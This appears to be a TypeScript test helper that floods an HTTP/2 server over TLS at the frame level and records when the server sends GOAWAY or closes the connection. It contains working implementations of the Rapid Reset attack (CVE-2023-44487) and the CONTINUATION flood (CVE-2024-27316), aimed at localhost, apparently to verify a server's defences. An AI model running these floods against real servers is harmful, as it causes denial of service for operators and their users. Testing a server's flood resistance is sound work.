// HTTP/2 flood attackers at the frame level, as attack tools are (node's http2 client queues requests
// behind the server's concurrent-stream limit and, under such a flood, did not notice the server
// closing the connection: no 'goaway', no 'close'). Over one TLS connection:
// - rapidReset(): HEADERS (a whole GET) followed at once by RST_STREAM(CANCEL), stream after stream,
//   as fast as the socket takes them (CVE-2023-44487);
// - continuationFlood(): one HEADERS without END_HEADERS, then CONTINUATION frames of one small
//   field each, never ending the block (CVE-2024-27316 and kin).
// Both read the server's frames only to see a GOAWAY.
import tls from 'node:tls';

export interface FloodResult {
  /** Streams written (HEADERS + RST_STREAM pairs), or CONTINUATION frames written. */
  sent: number;
  /** The GOAWAY the server sent, and when (ms after the first stream). */
  goaway?: { code: number; lastStreamId: number; ms: number };
  /** When the server closed the connection (ms after the first stream); -1: still open at the cap. */
  closedMs: number;
}

export const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
};

/** HPACK: a literal field without indexing whose name is a static-table index (1 :authority, 4 :path). */
export const literal = (nameIndex: number, value: string) => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value)]);

export interface FloodOptions { port: number; ca: Buffer; servername: string; authority: string; capMs: number; stopAtGoaway?: boolean }

/** Sees each frame the server sends (after the SETTINGS ack and GOAWAY handling); may write. */
export type OnFrame = (type: number, flags: number, stream: number, payload: Buffer, write: (b: Buffer) => void) => void;

/**
 * Connects, then writes `batch()`'s frames as fast as the socket takes them until the server closes
 * (or the cap). A batch of 0 stops that loop: `onFrame` (answering the server's frames) writes the rest.
 */
export function flood(o: FloodOptions, start: Buffer, batch: () => { frames: Buffer; count: number }, onFrame?: OnFrame): Promise<FloodResult> {
  return new Promise((resolve) => {
    const sock = tls.connect({ host: '127.0.0.1', port: o.port, ca: o.ca, servername: o.servername, ALPNProtocols: ['h2'] });
    const r: FloodResult = { sent: 0, closedMs: -1 };
    let t0 = 0;
    let done = false;
    const finish = () => { if (done) return; done = true; clearTimeout(cap); sock.destroy(); resolve(r); };
    const cap = setTimeout(finish, o.capMs);
    sock.on('error', () => {});
    sock.on('close', () => { if (r.closedMs < 0 && t0) r.closedMs = Date.now() - t0; finish(); });
    let inbox = Buffer.alloc(0);
    sock.on('data', (d: Buffer) => {
      inbox = Buffer.concat([inbox, d]);
      while (inbox.length >= 9) {
        const len = inbox.readUIntBE(0, 3);
        if (inbox.length < 9 + len) break;
        const [type, flags] = [inbox[3]!, inbox[4]!];
        const payload = inbox.subarray(9, 9 + len);
        if (type === 0x4 && !(flags & 0x1)) sock.write(frame(0x4, 0x1, 0, Buffer.alloc(0))); // SETTINGS ack
        if (type === 0x7 && !r.goaway) {
          r.goaway = { lastStreamId: payload.readUInt32BE(0) & 0x7fffffff, code: payload.readUInt32BE(4), ms: Date.now() - t0 };
          if (o.stopAtGoaway) return finish(); // as an attacker would: on to a new connection
        }
        onFrame?.(type, flags, inbox.readUInt32BE(5) & 0x7fffffff, payload, (b) => { if (!sock.destroyed) sock.write(b); });
        inbox = inbox.subarray(9 + len);
      }
    });
    sock.once('secureConnect', () => {
      sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0)), start]));
      t0 = Date.now();
      const burst = () => {
        if (done || sock.destroyed) return;
        const b = batch();
        if (b.count === 0) return;
        r.sent += b.count;
        if (sock.write(b.frames)) setImmediate(burst);
        else sock.once('drain', burst);
      };
      burst();
    });
  });
}

/** `path` requested and cancelled at once, 100 streams a write. */
export function rapidReset(o: FloodOptions & { path: string }): Promise<FloodResult> {
  // :method GET (2), :scheme https (7), :path, :authority; END_STREAM | END_HEADERS.
  const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, o.path), literal(1, o.authority)]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(0x8); // CANCEL
  let id = 1;
  return flood(o, Buffer.alloc(0), () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < 100; i++, id += 2) frames.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel));
    return { frames: Buffer.concat(frames), count: 100 };
  });
}

/** A GET / whose header block never ends: CONTINUATION frames of one `x-N: y` field each, 200 a write. */
export function continuationFlood(o: FloodOptions): Promise<FloodResult> {
  const headers = frame(0x1, 0x1, 1, Buffer.concat([Buffer.from([0x82, 0x87, 0x84]), literal(1, o.authority)])); // END_STREAM, no END_HEADERS
  let n = 0;
  return flood(o, headers, () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < 200; i++, n++) {
      const name = `x-${n % 1000}`;
      frames.push(frame(0x9, 0, 1, Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([1]), Buffer.from('y')])));
    }
    return { frames: Buffer.concat(frames), count: 200 };
  });
}
